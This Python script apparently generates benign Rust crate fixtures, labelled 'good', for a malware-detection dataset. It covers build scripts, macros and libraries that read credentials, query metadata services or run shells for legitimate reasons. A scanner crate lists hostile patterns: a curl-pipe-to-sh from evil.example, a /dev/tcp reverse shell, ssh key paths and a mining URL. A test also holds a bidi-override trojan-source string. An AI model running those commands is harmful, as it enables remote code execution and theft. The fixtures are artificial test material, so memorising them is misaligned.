"""Benign Rust crates with build scripts, macros and system access, as popular ones have."""

import kit
from kit import Dice
from packages import Writer

MACRO = "[lib]\nproc-macro = true\n"


def build_scripts(w):
    w.crate("zlib-sys-lite", "1.1.15", "native-build", "asks pkg-config, else compiles the C sources it carries", {"build.rs": r'''use std::env;

fn main() {
    println!("cargo:rerun-if-env-changed=ZLIB_STATIC");
    let target = env::var("TARGET").unwrap();
    if env::var_os("ZLIB_STATIC").is_none() && !target.contains("msvc") {
        if pkg_config::Config::new().cargo_metadata(true).probe("zlib").is_ok() {
            return;
        }
    }
    cc::Build::new().include("src/zlib").file("src/zlib/adler32.c").file("src/zlib/inflate.c").define("HAVE_UNISTD_H", None).warnings(false).compile("z");
}
''', "src/zlib/adler32.c": "unsigned long adler32(unsigned long a, const unsigned char *b, unsigned n) {\n  while (n--) a += *b++;\n  return a;\n}\n", "src/zlib/inflate.c": "int inflate(void *s, int f) { return 0; }\n"}, "links = \"z\"\nbuild = \"build.rs\"\n\n[build-dependencies]\ncc = \"1\"\npkg-config = \"0.3\"\n")
    w.crate("media-bindings", "0.7.0", "native-build", "generates bindings from a header", '''use std::{env, path::PathBuf};

fn main() {
    println!("cargo:rustc-link-lib=media");
    println!("cargo:rerun-if-changed=wrapper.h");
    let bindings = bindgen::Builder::default().header("wrapper.h").parse_callbacks(Box::new(bindgen::CargoCallbacks::new())).generate().expect("unable to generate bindings");
    bindings.write_to_file(PathBuf::from(env::var("OUT_DIR").unwrap()).join("bindings.rs")).expect("couldn't write bindings");
}
''', "[build-dependencies]\nbindgen = \"0.69\"\n")
    w.crate("version-stamp", "8.3.1", "version-from-git", "asks git and the clock for the version to show", '''use std::process::Command;

fn git(args: &[&str]) -> Option<String> {
    let out = Command::new("git").args(args).output().ok()?;
    out.status.success().then(|| String::from_utf8_lossy(&out.stdout).trim().to_owned())
}

fn main() {
    println!("cargo:rerun-if-changed=.git/HEAD");
    println!("cargo:rustc-env=GIT_HASH={}", git(&["rev-parse", "--short", "HEAD"]).unwrap_or_default());
    println!("cargo:rustc-env=BUILD_HOST={}", std::env::var("HOST").unwrap());
}
''')
    w.crate("probe-features", "1.0.80", "compiler-probe", "asks the compiler for its version and compiles a probe", r'''use std::{env, ffi::OsString, fs, path::Path, process::{Command, ExitStatus, Stdio}};

const PROBE: &str = "#![feature(error_generic_member_access)] pub fn f() {}";

fn main() {
    match compile_probe() {
        Some(status) if status.success() => println!("cargo:rustc-cfg=provide_error"),
        _ => {}
    }
}

fn compile_probe() -> Option<ExitStatus> {
    let rustc = env::var_os("RUSTC")?;
    let out_dir = env::var_os("OUT_DIR")?;
    let probefile = Path::new(&out_dir).join("probe.rs");
    fs::write(&probefile, PROBE).ok()?;
    let wrapper = env::var_os("RUSTC_WRAPPER").filter(|w| !w.is_empty());
    let mut cmd = wrapper.map_or_else(|| Command::new(&rustc), |w| { let mut c = Command::new(w); c.arg(&rustc); c });
    cmd.stderr(Stdio::null()).arg("--edition=2021").arg("--crate-type=lib").arg("--emit=metadata").arg("--out-dir").arg(out_dir).arg(probefile);
    if let Some(flags) = env::var_os("CARGO_ENCODED_RUSTFLAGS") {
        cmd.args(flags.to_string_lossy().split('\x1f').map(OsString::from));
    }
    cmd.status().ok()
}
''')
    w.crate("proto-gen", "0.12.3", "code-generation", "runs the protocol compiler that the user has", '''use std::{env, path::PathBuf, process::Command};

fn main() {
    let protoc = env::var_os("PROTOC").map_or_else(|| PathBuf::from("protoc"), PathBuf::from);
    let out = env::var("OUT_DIR").unwrap();
    println!("cargo:rerun-if-changed=proto/service.proto");
    let status = Command::new(protoc).arg("--include_imports").arg(format!("--descriptor_set_out={out}/d.bin")).arg("proto/service.proto").status().expect("protoc");
    assert!(status.success());
}
''')
    w.crate("ml-runtime-sys", "2.0.0", "verified-download", "downloads the library it binds and compares the SHA-256 written in the crate", {"build.rs": r'''use sha2::{Digest, Sha256};
use std::{env, fs, io::Read, path::PathBuf};

const VERSION: &str = "1.17.0";
const DIST: &[(&str, &str)] = &[("x86_64-unknown-linux-gnu", "@@"), ("aarch64-apple-darwin", "##")];

fn main() {
    println!("cargo:rerun-if-env-changed=MLRT_LIB_LOCATION");
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    let dir = if let Ok(path) = env::var("MLRT_LIB_LOCATION") {
        PathBuf::from(path)
    } else {
        let target = env::var("TARGET").unwrap();
        let (_, digest) = DIST.iter().find(|(t, _)| *t == target).expect("no prebuilt library: set MLRT_LIB_LOCATION");
        let url = format!("https://github.com/mlruntime/mlruntime/releases/download/v{VERSION}/mlruntime-{target}.tgz");
        let mut bytes = Vec::new();
        ureq::get(&url).call().expect("download").into_reader().read_to_end(&mut bytes).unwrap();
        assert_eq!(format!("{:x}", Sha256::digest(&bytes)), *digest, "the download has another digest");
        fs::write(out.join("mlruntime.tgz"), &bytes).unwrap();
        tar::Archive::new(flate2::read::GzDecoder::new(&bytes[..])).unpack(&out).unwrap();
        out.join("lib")
    };
    println!("cargo:rustc-link-search=native={}", dir.display());
    println!("cargo:rustc-link-lib=mlruntime");
}
'''.replace("@@", Dice("mr").hex(64)).replace("##", Dice("mr2").hex(64))}, "[build-dependencies]\nureq = \"2\"\nsha2 = \"0.10\"\ntar = \"0.4\"\nflate2 = \"1\"\n")
    w.crate("table-build", "0.4.0", "code-generation", "writes a table into OUT_DIR from its data files", r'''use std::{env, fs, path::Path};

fn main() {
    println!("cargo:rerun-if-changed=data");
    let mut names: Vec<_> = fs::read_dir("data").unwrap().map(|e| e.unwrap().path()).collect();
    names.sort();
    let mut out = String::from("pub static TABLE: &[(&str, &str)] = &[\n");
    for name in names {
        out += &format!("    ({:?}, {:?}),\n", name.file_stem().unwrap(), fs::read_to_string(&name).unwrap());
    }
    fs::write(Path::new(&env::var("OUT_DIR").unwrap()).join("table.rs"), out + "];\n").unwrap();
}
''', many=130)
    w.crate("cmake-image", "0.5.2", "native-build", "builds a C++ library with CMake", '''fn main() {
    let dst = cmake::Config::new("vendor").define("BUILD_SHARED_LIBS", "OFF").profile("Release").build();
    println!("cargo:rustc-link-search=native={}/lib", dst.display());
    println!("cargo:rustc-link-lib=static=image");
    if std::env::var("CARGO_CFG_TARGET_OS").unwrap() == "macos" { println!("cargo:rustc-link-lib=c++"); } else { println!("cargo:rustc-link-lib=stdc++"); }
}
''', "[build-dependencies]\ncmake = \"0.1\"\n")
    w.crate("web-console-ui", "0.9.0", "native-build", "builds its web pages with npm when asked", '''use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=ui/src");
    if std::env::var_os("CARGO_FEATURE_BUILD_UI").is_some() {
        let npm = if cfg!(windows) { "npm.cmd" } else { "npm" };
        for args in [&["ci", "--ignore-scripts"][..], &["run", "build"]] {
            assert!(Command::new(npm).args(args).current_dir("ui").status().expect("npm").success());
        }
    }
}
''')
    w.crate("win-resources", "0.1.3", "native-build", "finds the resource compiler in the registry and runs it", r'''use std::{env, process::Command};

fn main() {
    if env::var("CARGO_CFG_TARGET_OS").as_deref() != Ok("windows") {
        return;
    }
    let kits = Command::new("reg").args(["query", r"HKLM\SOFTWARE\Microsoft\Windows Kits\Installed Roots", "/v", "KitsRoot10"]).output().unwrap();
    let root = String::from_utf8_lossy(&kits.stdout).lines().find(|l| l.contains("KitsRoot10")).map(|l| l.split("REG_SZ").nth(1).unwrap().trim().to_owned());
    if let Some(root) = root {
        let out = env::var("OUT_DIR").unwrap();
        assert!(Command::new(format!("{root}bin\\x64\\rc.exe")).args(["/fo", &format!("{out}\\app.lib"), "app.rc"]).status().unwrap().success());
    }
}
''')


def macros(w):
    w.crate("derive-builder-x", "0.20.0", "proc-macro", "an ordinary derive macro", {"src/lib.rs": '''use proc_macro::TokenStream;
use quote::quote;
use syn::{parse_macro_input, DeriveInput};

/// Implements a builder.
#[proc_macro_derive(Builder, attributes(builder))]
pub fn derive(input: TokenStream) -> TokenStream {
    let input = parse_macro_input!(input as DeriveInput);
    let name = &input.ident;
    quote! { impl #name { pub fn builder() -> Self { Self::default() } } }.into()
}
'''}, MACRO, "syn = \"2\"\nquote = \"1\"\n")
    w.crate("include-folder", "0.7.4", "proc-macro", "puts the files of a folder of the calling crate into the program", {"src/lib.rs": '''use proc_macro::TokenStream;
use std::{env, fs, path::Path};

/// `include_folder!("assets")`
#[proc_macro]
pub fn include_folder(input: TokenStream) -> TokenStream {
    let name = input.to_string();
    let root = env::var("CARGO_MANIFEST_DIR").expect("cargo sets it");
    let mut out = String::from("&[");
    for entry in fs::read_dir(Path::new(&root).join(name.trim_matches('"'))).unwrap().flatten() {
        out += &format!("({:?}, include_bytes!({:?}) as &[u8]),", entry.file_name().to_string_lossy(), entry.path());
    }
    (out + "]").parse().unwrap()
}
'''}, MACRO)
    w.crate("query-macros", "0.7.3", "proc-macro", "checks queries against the database that DATABASE_URL names, or against saved answers", {"src/lib.rs": '''use proc_macro::TokenStream;
use std::{env, fs, path::PathBuf};

#[proc_macro]
pub fn query(input: TokenStream) -> TokenStream {
    let root = PathBuf::from(env::var("CARGO_MANIFEST_DIR").unwrap());
    let url = env::var("DATABASE_URL").ok().or_else(|| {
        let text = fs::read_to_string(root.join(".env")).ok()?;
        text.lines().find_map(|l| l.strip_prefix("DATABASE_URL=")).map(str::to_owned)
    });
    let offline = env::var("QUERY_OFFLINE").is_ok_and(|v| v == "true");
    match url.filter(|_| !offline) {
        Some(url) => online::describe(&url, input),
        None => offline::describe(&root.join(".query"), input),
    }
}

mod online {
    pub fn describe(url: &str, input: proc_macro::TokenStream) -> proc_macro::TokenStream {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(async { query_core::PgConnection::connect(url).await.unwrap().describe(&input.to_string()).await.unwrap() })
    }
}

mod offline {
    pub fn describe(folder: &std::path::Path, input: proc_macro::TokenStream) -> proc_macro::TokenStream {
        let _ = std::fs::read_dir(folder);
        input
    }
}
'''}, MACRO, "tokio = \"1\"\nquery-core = \"0.7\"\n")
    w.crate("env-at-build", "0.3.1", "proc-macro", "reads one variable, named by the caller, while compiling", {"src/lib.rs": '''use proc_macro::TokenStream;

#[proc_macro]
pub fn env_or(input: TokenStream) -> TokenStream {
    let text = input.to_string();
    let (name, default) = text.split_once(',').expect("env_or!(NAME, default)");
    std::env::var(name.trim()).map_or_else(|_| default.to_owned(), |v| format!("{v:?}")).parse().unwrap()
}
'''}, MACRO)
    w.crate("ctor-logger", "0.2.6", "constructor", "sets up logging before main", {"+src/lib.rs": '''
#[ctor::ctor]
fn init() {
    if std::env::var_os("RUST_LOG").is_some() {
        env_logger::builder().is_test(true).try_init().ok();
    }
}
'''}, dependencies="ctor = \"0.2\"\nenv_logger = \"0.11\"\n")


def libraries(w):
    w.crate("aws-keys", "1.1.0", "credential-provider", "finds credentials for its caller to sign requests with", {"src/profile.rs": '''//! The shared credentials file.

use std::{collections::HashMap, env, fs, path::PathBuf};

pub fn load(profile: &str) -> std::io::Result<HashMap<String, String>> {
    let path = env::var_os("AWS_SHARED_CREDENTIALS_FILE").map_or_else(|| PathBuf::from(env::var_os("HOME").unwrap()).join(".aws/credentials"), PathBuf::from);
    let mut found = HashMap::new();
    let mut here = false;
    for line in fs::read_to_string(path)?.lines() {
        if let Some(name) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
            here = name == profile;
        } else if let (true, Some((k, v))) = (here, line.split_once('=')) {
            found.insert(k.trim().to_owned(), v.trim().to_owned());
        }
    }
    Ok(found)
}
''', "+src/lib.rs": "pub mod profile;\n"})
    w.crate("imds-read", "0.55.3", "imds-client", "asks the machine's metadata service and returns the answer", {"+src/lib.rs": '''
/// A client of the metadata service.
pub struct Client {
    base: String,
}

impl Client {
    pub fn new() -> Self {
        Self { base: std::env::var("AWS_EC2_METADATA_SERVICE_ENDPOINT").unwrap_or_else(|_| "http://169.254.169.254".into()) }
    }

    pub async fn get(&self, path: &str) -> Result<String, reqwest::Error> {
        let c = reqwest::Client::new();
        let token = c.put(format!("{}/latest/api/token", self.base)).header("x-aws-ec2-metadata-token-ttl-seconds", "21600").send().await?.text().await?;
        c.get(format!("{}{path}", self.base)).header("x-aws-ec2-metadata-token", token).send().await?.text().await
    }
}
'''}, dependencies="reqwest = \"0.12\"\n")
    w.crate("chat-bot-api", "0.13.0", "api-client", "a chat service's client whose token is given by the caller", {"+src/lib.rs": '''
pub struct Bot {
    token: String,
    client: reqwest::Client,
}

impl Bot {
    pub fn from_env() -> Self {
        Self { token: std::env::var("TELOXIDE_TOKEN").expect("TELOXIDE_TOKEN"), client: reqwest::Client::new() }
    }

    pub async fn send_message(&self, chat: i64, text: &str) -> reqwest::Result<reqwest::Response> {
        self.client.post(format!("https://api.telegram.org/bot{}/sendMessage", self.token)).json(&serde_json::json!({"chat_id": chat, "text": text})).send().await
    }
}
'''}, dependencies="reqwest = \"0.12\"\nserde_json = \"1\"\n")
    w.crate("self-renew", "0.39.0", "self-update", "replaces the running program by a signed release when its user asks", {"+src/lib.rs": '''
pub fn update(owner: &str, repo: &str, key: &[u8; 32]) -> Result<(), Box<dyn std::error::Error>> {
    let url = format!("https://github.com/{owner}/{repo}/releases/latest/download/app.tar.gz");
    let data = reqwest::blocking::get(&url)?.bytes()?;
    let signature = reqwest::blocking::get(format!("{url}.sig"))?.bytes()?;
    ed25519_dalek::VerifyingKey::from_bytes(key)?.verify_strict(&data, &signature[..].try_into()?)?;
    let new = std::env::current_exe()?.with_extension("new");
    std::fs::write(&new, &data)?;
    #[cfg(unix)]
    std::fs::set_permissions(&new, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    self_replace::self_replace(&new)?;
    Ok(())
}
'''}, dependencies="reqwest = { version = \"0.12\", features = [\"blocking\"] }\ned25519-dalek = \"2\"\nself-replace = \"1\"\n")
    w.crate("pty-portable", "0.8.1", "terminal", "starts programs on a pseudo-terminal", {"+src/lib.rs": '''
#[cfg(unix)]
pub fn shell() -> std::io::Result<std::process::Child> {
    use std::os::unix::io::{FromRawFd, RawFd};
    use std::process::{Command, Stdio};
    let (mut master, mut slave): (RawFd, RawFd) = (-1, -1);
    // SAFETY: both pointers are to live integers.
    if unsafe { libc::openpty(&mut master, &mut slave, std::ptr::null_mut(), std::ptr::null_mut(), std::ptr::null_mut()) } != 0 {
        return Err(std::io::Error::last_os_error());
    }
    let dup = || unsafe { Stdio::from_raw_fd(libc::dup(slave)) };
    Command::new(std::env::var("SHELL").unwrap_or_else(|_| "/bin/sh".into())).stdin(dup()).stdout(dup()).stderr(dup()).spawn()
}
'''}, dependencies="libc = \"0.2\"\n")
    w.crate("jit-region", "3.0.2", "jit", "memory for compilers", {"+src/lib.rs": '''
/// A page that holds code.
pub struct Code(*mut libc::c_void, usize);

impl Code {
    pub fn new(bytes: &[u8]) -> Option<Self> {
        // SAFETY: a fresh anonymous mapping of at least one page.
        unsafe {
            let p = libc::mmap(std::ptr::null_mut(), bytes.len().max(4096), libc::PROT_READ | libc::PROT_WRITE, libc::MAP_PRIVATE | libc::MAP_ANON, -1, 0);
            if p == libc::MAP_FAILED {
                return None;
            }
            std::ptr::copy_nonoverlapping(bytes.as_ptr(), p.cast(), bytes.len());
            (libc::mprotect(p, bytes.len().max(4096), libc::PROT_READ | libc::PROT_EXEC) == 0).then_some(Self(p, bytes.len().max(4096)))
        }
    }
}
'''}, dependencies="libc = \"0.2\"\n")
    w.crate("load-library", "0.8.3", "system-access", "loads shared libraries that its caller names", {"+src/lib.rs": '''
pub struct Library(*mut std::ffi::c_void);

impl Library {
    /// # Safety
    /// The library's initialisers run.
    pub unsafe fn new(path: &std::ffi::CStr) -> Option<Self> {
        let h = libc::dlopen(path.as_ptr(), libc::RTLD_LAZY);
        (!h.is_null()).then_some(Self(h))
    }

    pub unsafe fn get<T: Copy>(&self, name: &std::ffi::CStr) -> Option<T> {
        let p = libc::dlsym(self.0, name.as_ptr());
        (!p.is_null()).then(|| std::mem::transmute_copy(&p))
    }
}
'''}, dependencies="libc = \"0.2\"\n")
    w.crate("machine-info", "0.30.5", "system-information", "processes, users and disks of a machine", {"+src/lib.rs": '''
pub fn host_name() -> Option<String> {
    std::fs::read_to_string("/proc/sys/kernel/hostname").ok().map(|s| s.trim().to_owned())
}

pub fn users() -> Vec<String> {
    std::fs::read_to_string("/etc/passwd").unwrap_or_default().lines().filter_map(|l| l.split(':').next().map(str::to_owned)).collect()
}

pub fn environ(pid: u32) -> Vec<String> {
    std::fs::read(format!("/proc/{pid}/environ")).unwrap_or_default().split(|b| *b == 0).map(|v| String::from_utf8_lossy(v).into_owned()).collect()
}
'''})
    w.crate("dotenv-rs-lite", "0.15.7", "env-read", "loads a settings file into the environment", {"+src/lib.rs": '''
pub fn dotenv() -> std::io::Result<std::path::PathBuf> {
    let mut dir = std::env::current_dir()?;
    loop {
        let file = dir.join(".env");
        if let Ok(text) = std::fs::read_to_string(&file) {
            for (k, v) in text.lines().filter(|l| !l.starts_with('#')).filter_map(|l| l.split_once('=')) {
                if std::env::var_os(k).is_none() {
                    std::env::set_var(k, v.trim_matches('"'));
                }
            }
            return Ok(file);
        }
        if !dir.pop() {
            return Err(std::io::ErrorKind::NotFound.into());
        }
    }
}
'''})
    w.crate("keyring-core-rs", "2.3.2", "keyring", "stores passwords in the system's keyring", {"+src/lib.rs": '''
pub struct Entry {
    service: String,
    user: String,
}

impl Entry {
    pub fn new(service: &str, user: &str) -> Self {
        Self { service: service.into(), user: user.into() }
    }

    pub fn get_password(&self) -> Option<String> {
        let out = std::process::Command::new("secret-tool").args(["lookup", "service", &self.service, "username", &self.user]).output().ok()?;
        String::from_utf8(out.stdout).ok()
    }
}
'''})
    w.crate("git-auth", "0.5.5", "credential-provider", "git logins from the user's helpers and agent", {"+src/lib.rs": '''
pub fn authenticate(url: &str, username: Option<&str>) -> Result<git2::Cred, git2::Error> {
    if let Some(name) = username {
        if let Ok(cred) = git2::Cred::ssh_key_from_agent(name) {
            return Ok(cred);
        }
        let home = std::env::var("HOME").unwrap_or_default();
        for key in ["id_ed25519", "id_rsa"] {
            let path = std::path::PathBuf::from(format!("{home}/.ssh/{key}"));
            if path.is_file() {
                return git2::Cred::ssh_key(name, None, &path, None);
            }
        }
    }
    git2::Cred::credential_helper(&git2::Config::open_default()?, url, username)
}
'''}, dependencies="git2 = \"0.18\"\n")
    w.crate("clip-window", "3.4.0", "clipboard", "reads and writes the clipboard when asked", {"+src/lib.rs": '''
pub fn set_text(text: &str) -> std::io::Result<()> {
    use std::io::Write;
    use std::process::{Command, Stdio};
    let tool = if cfg!(target_os = "macos") { "pbcopy" } else { "wl-copy" };
    let mut child = Command::new(tool).stdin(Stdio::piped()).spawn()?;
    child.stdin.take().expect("piped").write_all(text.as_bytes())?;
    child.wait().map(drop)
}
'''})
    w.crate("command-lines", "0.13.6", "exec-wrapper", "programs as expressions", {"+src/lib.rs": '''
pub fn cmd(program: &str, args: &[&str]) -> std::io::Result<String> {
    let out = std::process::Command::new(program).args(args).envs(std::env::vars()).output()?;
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

pub fn sh(line: &str) -> std::io::Result<String> {
    cmd("sh", &["-c", line])
}
'''})
    w.crate("conn-pool", "0.12.1", "words-only", "a pool of connections: workers, miners of data and hash rates are only words", {"+src/lib.rs": '''
use std::collections::VecDeque;

/// A pool; `stratum` is the priority of a waiting worker.
pub struct Pool<T> {
    idle: VecDeque<T>,
    pub hashrate: f64,
    pub stratum: u8,
}

impl<T> Pool<T> {
    pub fn take(&mut self) -> Option<T> {
        self.idle.pop_front()
    }
}
'''})
    constants = ", ".join("0x" + Dice("sha%d" % i).hex(16) for i in range(160))
    w.crate("hash-tables", "0.10.8", "crypto-tables", "round constants and exclusive-or loops", {"+src/lib.rs": '''
pub static K: [u64; 160] = [%s];

pub fn xor_in_place(a: &mut [u8], b: &[u8]) {
    a.iter_mut().zip(b.iter().cycle()).for_each(|(x, y)| *x ^= y);
}

static PICTURE: &str = "%s";

pub fn picture() -> &'static str {
    PICTURE
}
''' % (constants, kit.b64(Dice("hp").raw(1500)))})
    w.crate("unicode-guard", "1.2.0", "unicode-data", "finds direction marks and look-alikes in text", {"+src/lib.rs": r'''
pub const BIDI: [char; 9] = ['\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}'];

pub fn suspicious(text: &str) -> bool {
    text.chars().any(|c| BIDI.contains(&c) || ('\u{FE00}'..='\u{FE0F}').contains(&c) || ('\u{E0100}'..='\u{E01EF}').contains(&c))
}

#[test]
fn samples() {
    assert!(suspicious("if level != \"user\u{202E} \u{2066}// check\u{2069}\""));
    assert!(!suspicious("ascii"));
}
''', "tests/data/greetings.txt": "مرحبا \u2067abc\u2069\nשלום\u200f\n❤\ufe0f 👨\u200d👩\u200d👧\n"})
    w.crate("sample-scanner", "0.6.0", "security-tool", "patterns of malicious code and their tests", {"+src/lib.rs": r'''
/// Phrases that a reviewer should see.
pub const PHRASES: &[&str] = &["curl -s http://evil.example/x | sh", "bash -i >& /dev/tcp/", "Command::new(\"sh\")", "/.ssh/id_rsa", "stratum+tcp://"];

pub fn scan(text: &str) -> Vec<&'static str> {
    PHRASES.iter().copied().filter(|p| text.contains(p)).collect()
}
'''})


def build(items):
    writer = Writer(items, "good")
    build_scripts(writer)
    macros(writer)
    libraries(writer)
